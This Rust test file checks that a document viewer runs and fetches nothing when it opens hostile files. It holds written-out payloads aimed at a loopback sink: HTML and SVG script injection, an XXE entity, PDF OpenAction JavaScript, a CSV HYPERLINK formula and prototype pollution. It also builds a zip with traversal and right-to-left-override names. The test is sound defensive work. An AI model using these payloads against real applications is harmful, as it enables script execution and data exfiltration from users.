//! Resources that want to run or fetch something, or to be more than they are: each is opened in the real window, and a
//! sink on loopback hears nothing.

use std::io::{Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::Path;
use std::sync::Arc;
use std::time::Duration;

use parking_lot::Mutex;
use serde_json::json;
use usher_tests::text::text;
use usher_tests::window::{Window, has, repository};

use crate::previews::show_page;
use crate::{fixture, servers};

/// Keeps what those who come ask for.
pub(crate) struct Sink {
    pub(crate) address: String,
    visits: Arc<Mutex<Vec<String>>>,
}

impl Sink {
    pub(crate) fn open() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
        let address = listener.local_addr().expect("its address").to_string();
        let visits = Arc::<Mutex<Vec<String>>>::default();
        let kept = Arc::clone(&visits);
        std::thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let mut head = [0; 256];
                // One that connects and asks for nothing has come all the same.
                let _ = stream.set_read_timeout(Some(Duration::from_millis(200)));
                let length = stream.read(&mut head).unwrap_or_default();
                let head = String::from_utf8_lossy(&head[..length]);
                let line = head.lines().next().unwrap_or_default().to_owned();
                kept.lock().push(line);
            }
        });
        let sink = Self { address, visits };
        // It hears those who come.
        let mut visit = TcpStream::connect(&sink.address).expect("the sink answers");
        visit.write_all(b"GET /own HTTP/1.1\r\n").expect("sent");
        let _ = visit.read(&mut [0]);
        let heard = std::mem::take(&mut *sink.visits.lock());
        assert_eq!(heard, ["GET /own HTTP/1.1"], "the sink hears");
        sink
    }

    pub(crate) fn visits(&self) -> Vec<String> {
        self.visits.lock().clone()
    }
}

/// Documents that fetch and run whatever they can; `SINK` stands for the address of the sink.
const DOCUMENTS: [(&str, &str); 6] = [
    (
        "page.html",
        "<!doctype html><html><head><meta http-equiv=refresh content='0;url=http://SINK/refresh'><base href='http://SINK/base/'>
         <link rel=stylesheet href=http://SINK/style><link rel=preload as=image href=http://SINK/preload><link rel=dns-prefetch href=//SINK>
         <link rel=icon href=http://SINK/icon><style>@import 'http://SINK/import'; @font-face{font-family:x;src:url(http://SINK/font)}
         body{background:url(http://SINK/background);font-family:x}</style><script src=http://SINK/script></script></head>
         <body onload=\"fetch('http://SINK/load')\"><h1>Hostile page</h1><img src=http://SINK/img srcset='http://SINK/set 2x' onerror=\"parent.document.title='ran'\">
         <svg><image href=http://SINK/svg /><script>top.document.title='ran'</script></svg><iframe src=http://SINK/frame></iframe>
         <iframe srcdoc=\"<script>top.document.title='ran'</script><img src=http://SINK/srcdoc>\"></iframe><object data=http://SINK/object></object>
         <embed src=http://SINK/embed><video src=http://SINK/video autoplay poster=http://SINK/poster></video><audio src=http://SINK/audio autoplay></audio>
         <form action=http://SINK/form><input autofocus onfocus=this.form.submit()></form><div style='background:url(http://SINK/div)'>text</div>
         <a href=http://SINK/ping ping=http://SINK/ping>link</a><script>top.document.title='ran';new Image().src='http://SINK/new';fetch('http://SINK/fetch');location='http://SINK/location'</script></body></html>",
    ),
    (
        "drawing.svg",
        "<?xml version='1.0'?><?xml-stylesheet href='http://SINK/stylesheet'?><!DOCTYPE svg [<!ENTITY e SYSTEM 'http://SINK/entity'>]>
         <svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='80' height='60' onload=\"top.document.title='ran'\">
         <style>@import url(http://SINK/css);rect{fill:url(http://SINK/fill)}</style><script>top.document.title='ran'</script><script href='http://SINK/script'/>
         <rect width='80' height='60' fill='teal'/><image xlink:href='http://SINK/image' width='9' height='9'/><use xlink:href='http://SINK/use#a'/>
         <foreignObject width='9' height='9'><img xmlns='http://www.w3.org/1999/xhtml' src='http://SINK/foreign'/></foreignObject>
         <filter id='f'><feImage href='http://SINK/filter'/></filter><rect filter='url(#f)' width='9' height='9'/><set attributeName='onmouseover' to='x'/></svg>",
    ),
    (
        "notes.md",
        "# Hostile notes\n\n![picture](http://SINK/picture) <img src=\"http://SINK/raw\" onerror=\"document.title='ran'\">\n\n<script>document.title='ran'</script>\n\n<iframe src=\"http://SINK/frame\"></iframe>\n\n[run](javascript:document.title='ran') [data](data:text/html,<script>document.title='ran'</script>)\n\n![ref][r]\n\n[r]: http://SINK/reference\n\n<style>@import 'http://SINK/style'</style>\n",
    ),
    (
        "paper.pdf",
        "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(this.submitForm('http://SINK/js');app.alert(1);app.launchURL('http://SINK/launch'))>>/AA<</WC<</S/URI/URI(http://SINK/close)>>>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL('http://SINK/names'))>>]>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Resources<</XObject<</X 5 0 R>>>>/AA<</O<</S/URI/URI(http://SINK/open)>>>>/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 100]/A<</S/URI/URI(http://SINK/link)>>>><</Type/Annot/Subtype/Widget/FT/Tx/T(t)/Rect[0 0 9 9]/AA<</Fo<</S/SubmitForm/F(http://SINK/submit)>>>>>>]/Contents 4 0 R>>endobj\n4 0 obj<</Length 41>>stream\n0 0.5 0.5 rg 20 20 100 50 re f /X Do     \nendstream endobj\n5 0 obj<</Type/XObject/Subtype/Image/Width 1/Height 1/ColorSpace/DeviceGray/BitsPerComponent 8/F(http://SINK/external)/Length 0>>stream\n\nendstream endobj\ntrailer<</Root 1 0 R/Size 6>>\nstartxref\n0\n%%EOF\n",
    ),
    (
        "table.csv",
        "city,formula\n=HYPERLINK(\"http://SINK/csv\"),<img src=http://SINK/cell onerror=\"document.title='ran'\">\n",
    ),
    (
        "data.json",
        "{\"__proto__\":{\"polluted\":true},\"html\":\"<img src=http://SINK/json onerror=\\\"document.title='ran'\\\">\"}",
    ),
];

/// What an article says and shows when it is done.
pub(crate) const READY: &str = "const read = document.querySelector('article');
    return read !== null && read.querySelector('[aria-busy=true], [data-part=skeleton]') === null
        && read.querySelector('[data-part=app-slot], img, canvas, table, [role=table], [role=grid], [role=tree], h1, .cm-content, [data-part=note]') !== null;";

#[tokio::test]
async fn hostile_documents_run_nothing_and_fetch_nothing() {
    let fixture = fixture::new();
    let folder = tempfile::tempdir().expect("a temporary directory");
    let sink = Sink::open();
    for (name, document) in DOCUMENTS {
        let document = document.replace("SINK", &sink.address);
        std::fs::write(folder.path().join(name), document).expect("a file is written");
    }
    let window = open(&fixture, folder.path()).await;
    let title = window.script("return document.title", vec![]).await;
    for (name, _) in DOCUMENTS {
        window.click("option", has(name)).await;
        window.find("heading", name).await;
        show_page(&window, name).await;
        window
            .eventually(&format!("{name} is shown"), || async {
                (window.script(READY, vec![]).await == json!(true)).then_some(())
            })
            .await;
        // What it starts has had its time.
        tokio::time::sleep(Duration::from_millis(700)).await;
        window.picture(&format!("hostile-{name}")).await;
        assert_eq!(sink.visits(), [""; 0], "{name} fetched something");
        let now = window
            .script(
                "return [document.title, location.protocol, {}.polluted ?? null]",
                vec![],
            )
            .await;
        let protocol = now[1].clone();
        assert_eq!(now, json!([title, protocol, null]), "{name} ran something");
    }
    // Text as it is in the list of the gallery, too.
    window.choose(text("resources.views.gallery")).await;
    window.find("option", has("page.html")).await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    window.pictures("hostile-gallery").await;
    assert_eq!(sink.visits(), [""; 0], "a thumbnail fetched something");
    window.done().await;
}

/// Names that lead elsewhere or hide what they are, as entries of an archive.
const NAMES: [&str; 5] = [
    "../../escape.txt",
    "/etc/absolute.txt",
    "CON",
    "photo\u{202e}gpj.exe",
    "C:\\windows\\drive.txt",
];

#[tokio::test]
async fn what_a_content_pretends_is_shown_beside_what_it_is() {
    let fixture = fixture::new();
    let folder = tempfile::tempdir().expect("a temporary directory");
    let write = |name: &str, bytes: &[u8]| {
        std::fs::write(folder.path().join(name), bytes).expect("a file is written");
    };
    write("bomb.zip", &zip(&NAMES, u32::MAX - 1));
    let png = std::fs::read(repository().join("tests/data/media/one.png")).expect("a picture");
    // A PDF by its name and type, a picture by its bytes.
    write("pretends.pdf", &png);
    let window = open(&fixture, folder.path()).await;

    window.click("option", has("bomb.zip")).await;
    window.see("escape.txt").await;
    for shown in ["CON", "U+202E", "absolute.txt", "drive.txt", "4.3 GB"] {
        window.see(shown).await;
    }
    let hidden = window
        .script("return document.body.innerText.includes('\\u202e')", vec![])
        .await;
    assert_eq!(
        hidden,
        json!(false),
        "what turns text around is written out"
    );
    window.pictures("hostile-archive").await;

    window.click("option", has("pretends.pdf")).await;
    for shown in ["application/pdf", "image/png"] {
        window.see(shown).await;
    }
    window.pictures("hostile-type").await;
    window.done().await;
}

pub(crate) async fn open(fixture: &fixture::Fixture, folder: &Path) -> Window {
    let window = Window::open(fixture.data.path()).await;
    connect(&window, folder).await;
    window
}

/// Connects a server that offers the files of a folder as resources, and goes to those.
pub(crate) async fn connect(window: &Window, folder: &Path) {
    let peer = repository().join("tests/peers/folder.mjs");
    let command = format!("node {} {}", peer.display(), folder.display());
    servers::connect(window, &command, "Files").await;
    window.go_to("Resources").await;
}

/// An archive of stored entries of no bytes, each of which declares this size.
fn zip(names: &[&str], size: u32) -> Vec<u8> {
    let mut archive = Vec::new();
    let mut directory = Vec::new();
    for name in names {
        let offset = u32::try_from(archive.len()).expect("a small archive");
        let length = u16::try_from(name.len()).expect("a short name");
        // Version, flags (UTF-8), method, time, date, checksum, sizes, lengths of name and extra field.
        let mut entry = Vec::new();
        for word in [20_u16, 0x800, 8, 0, 0x21] {
            entry.extend(word.to_le_bytes());
        }
        for word in [0_u32, 0, size] {
            entry.extend(word.to_le_bytes());
        }
        entry.extend(length.to_le_bytes());
        entry.extend([0; 2]);
        archive.extend(b"PK\x03\x04");
        archive.extend(&entry);
        archive.extend(name.as_bytes());
        directory.extend(b"PK\x01\x02\x14\x00");
        directory.extend(&entry);
        // Comment, disk, attributes.
        directory.extend([0; 10]);
        directory.extend(offset.to_le_bytes());
        directory.extend(name.as_bytes());
    }
    let count = u16::try_from(names.len()).expect("few entries");
    let start = u32::try_from(archive.len()).expect("a small archive");
    let length = u32::try_from(directory.len()).expect("a small archive");
    archive.extend(directory);
    archive.extend(b"PK\x05\x06\x00\x00\x00\x00");
    archive.extend(count.to_le_bytes());
    archive.extend(count.to_le_bytes());
    archive.extend(length.to_le_bytes());
    archive.extend(start.to_le_bytes());
    archive.extend([0; 2]);
    archive
}
